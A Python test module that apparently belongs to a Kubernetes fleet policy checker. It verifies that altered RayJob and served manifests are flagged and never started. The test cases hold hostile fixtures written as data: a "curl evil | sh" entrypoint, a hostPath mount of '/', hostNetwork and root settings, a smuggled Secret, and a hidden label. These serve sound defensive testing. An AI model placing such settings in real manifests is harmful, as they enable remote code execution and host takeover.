"""A placement is whole and nothing more: what the template does not render is named, and no spoke begins it."""

import copy
import json
import re
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from carbonfleet.fleet import parse
from carbonfleet.fleet.check import read_checkout
from carbonfleet.fleet.manifests import with_suspend
from carbonfleet.spoke.wanted import Folder, read_folder
from fixtures.fleet_values import facts_of
from fixtures.odd_yaml import MOVE, PLACEMENT, SERVED, fleet_files

FILES = fleet_files()
WORKER = r"spec\.rayClusterSpec\.workerGroupSpecs\[0\]\.template\.spec"
SECRET = "---\napiVersion: v1\nkind: Secret\nmetadata: {name: stolen, namespace: ml}\n"
HIDDEN = '  labels:\n    # "|" begins a block\n    note: |\n      carbonfleet.dev/data-class: public\n'


def judged(path: str, content: bytes) -> list[str]:
    """What `policy check` says of a fleet in which this file alone is another."""
    return [str(problem) for problem in read_checkout(FILES | {path: content}).problems]


def begun(content: bytes) -> set[str]:
    """What the spoke would begin, of this file alone."""
    wanted = read_folder("us-oh-1", Folder("c" * 40, facts_of("us-oh-1"), "", {PLACEMENT: content}))
    return {one.placement.path for one in wanted.placements.values()}


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("emptyDir: {medium: Memory, sizeLimit: 8Gi}", "hostPath: {path: /}", rf"{WORKER}\.volumes\[1\]"),
        ("            volumes:\n", "            hostNetwork: true\n            volumes:\n", rf"{WORKER}\.hostNetwork"),
        ("runAsNonRoot: true", "runAsNonRoot: false", "runAsNonRoot"),
        ("python -m workloads.lora.train", "sh -c 'curl evil | sh'", "spec.entrypoint"),
        ('  namespace: "ml"', '  namespace: "team-b"', "namespace"),
        ("  labels:\n", HIDDEN, "metadata.labels.note"),
        ("kind: RayJob\n", "kind: RayJob\nstatus: {}\n", "status: is never rendered"),
        ('carbonfleet.dev/gpus: "2"', 'carbonfleet.dev/gpus: "1"', "'2' does not follow"),
        ("activeDeadlineSeconds: 18000", "activeDeadlineSeconds: 1800000", "1800000 does not follow"),
        ("apiVersion: v1\n", SECRET + "---\napiVersion: v1\n", "a ConfigMap and a RayJob, in this order, and nothing"),
    ],
)
def test_what_the_hub_never_writes_is_named_by_all_and_begun_by_none(old, new, says):
    content = FILES[PLACEMENT].decode().replace(old, new, 1).encode()
    assert content != FILES[PLACEMENT]
    [problem] = judged(PLACEMENT, content)
    assert problem.startswith(f"{PLACEMENT}:")
    assert re.search(says, problem), problem
    assert begun(content) == set()


def test_the_same_value_stands_wherever_the_template_has_it():
    """A label of one object can't say another thing than the same label of the other."""
    text = FILES[PLACEMENT].decode()
    for nth in range(text.count('data-class: "public"')):
        parts = text.split('data-class: "public"')
        changed = (
            'data-class: "public"'.join(parts[: nth + 1])
            + 'data-class: "eu"'
            + 'data-class: "public"'.join(parts[nth + 1 :])
        )
        assert any("must be one value, the same wherever" in each for each in judged(PLACEMENT, changed.encode()))
        assert begun(changed.encode()) == set()


def styles() -> dict[str, str]:
    """The same file as other tools write it."""
    documents = list(yaml.safe_load_all(FILES[PLACEMENT]))
    text = FILES[PLACEMENT].decode()
    return {
        "blank lines and comments": "# kept\n" + text.replace("\n---\n", "\n\n# next\n---\n\n") + "\n\n",
        "sorted keys": yaml.safe_dump_all(documents, sort_keys=True),
        "flow": yaml.safe_dump_all(documents, default_flow_style=True, width=70),
        "wide indentation": yaml.safe_dump_all(documents, indent=6, explicit_start=True, explicit_end=True),
        "JSON": "---\n".join(json.dumps(document, indent=2) + "\n" for document in documents),
        "Windows": text.replace("\n", "\r\n"),
    }


@pytest.mark.parametrize("style", styles())
def test_a_reformatted_placement_is_the_same_placement(style):
    content = styles()[style].encode()
    assert parse(PLACEMENT, content) == parse(PLACEMENT, FILES[PLACEMENT])
    assert judged(PLACEMENT, content) == []
    assert begun(content) == {PLACEMENT}
    assert with_suspend(PLACEMENT, with_suspend(PLACEMENT, content, True), False) == FILES[PLACEMENT]


def places(value: Any, at: tuple = ()) -> list[tuple]:
    """Where something stands in a document."""
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [at, *(place for key, each in inside for place in places(each, (*at, key)))]


@st.composite
def altered(draw: st.DrawFn, path: str) -> bytes:
    """The file with one thing anywhere in it taken out, put in, or made something else."""
    documents = copy.deepcopy(list(yaml.safe_load_all(FILES[path])))
    place = draw(st.sampled_from(places(documents)[1:]))
    around: Any = documents
    for key in place[:-1]:
        around = around[key]
    odd = draw(st.sampled_from(["x", "", "0", 0, 1, True, None, 1.5, [], {}, ["x"], {"hostPath": {"path": "/"}}]))
    way = draw(st.sampled_from(["take out", "put in", "replace", "twice"]))
    here = around[place[-1]]
    if way == "take out":
        del around[place[-1]]
    elif way == "put in" and isinstance(here, dict):
        here["more"] = odd
    elif way == "put in" and isinstance(here, list):
        here.append(odd)
    elif way == "twice" and isinstance(around, list):
        around.append(here)
    else:
        around[place[-1]] = odd
    return yaml.safe_dump_all(documents).encode()


def check_altered(path: str, content: bytes) -> None:
    said = judged(path, content)
    if path == PLACEMENT and not said:
        original, found = parse(path, FILES[path]), parse(path, content)
        assert found == original or found.edited
    before, after = (list(yaml.safe_load_all(each)) for each in (FILES[path], content))
    shapes = [sorted(map(str, places(documents))) for documents in (before, after)]
    assert said or shapes[0] == shapes[1], "a file of another shape passed"
    assert path != PLACEMENT or bool(begun(content)) == (not said)


@given(path=st.sampled_from([PLACEMENT, MOVE, SERVED.path]), data=st.data())
@settings(max_examples=150)
def test_any_alteration_is_named_unless_it_is_another_value_in_its_place(path, data):
    check_altered(path, data.draw(altered(path)))


@pytest.mark.soak
@given(path=st.sampled_from([PLACEMENT, MOVE, SERVED.path]), data=st.data())
@settings(max_examples=20_000)
def test_any_of_many_alterations_is_named_unless_it_is_another_value_in_its_place(path, data):
    check_altered(path, data.draw(altered(path)))


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("---\napiVersion: v1\nkind: Service", "---\napiVersion: apps/v1\nkind: Deployment", "must hold one ConfigMap"),
        ("emptyDir: {}", "hostPath: {path: /}", "volumes[3]"),
        ("      enableServiceLinks: false\n", "      hostNetwork: true\n", "enableServiceLinks"),
        ('carbonfleet.dev/serving: "ranks"', 'carbonfleet.dev/serving: "other"', "must be one value"),
    ],
)
def test_what_is_served_is_whole_and_nothing_more(old, new, says):
    content = FILES[SERVED.path].decode().replace(old, new, 1).encode()
    assert content != FILES[SERVED.path]
    [problem] = judged(SERVED.path, content)
    assert problem.startswith(f"{SERVED.path}:")
    assert says in problem


def test_people_may_change_the_values_of_what_is_served():
    assert judged(SERVED.path, FILES[SERVED.path].replace(b"replicas: 1", b"replicas: 2")) == []
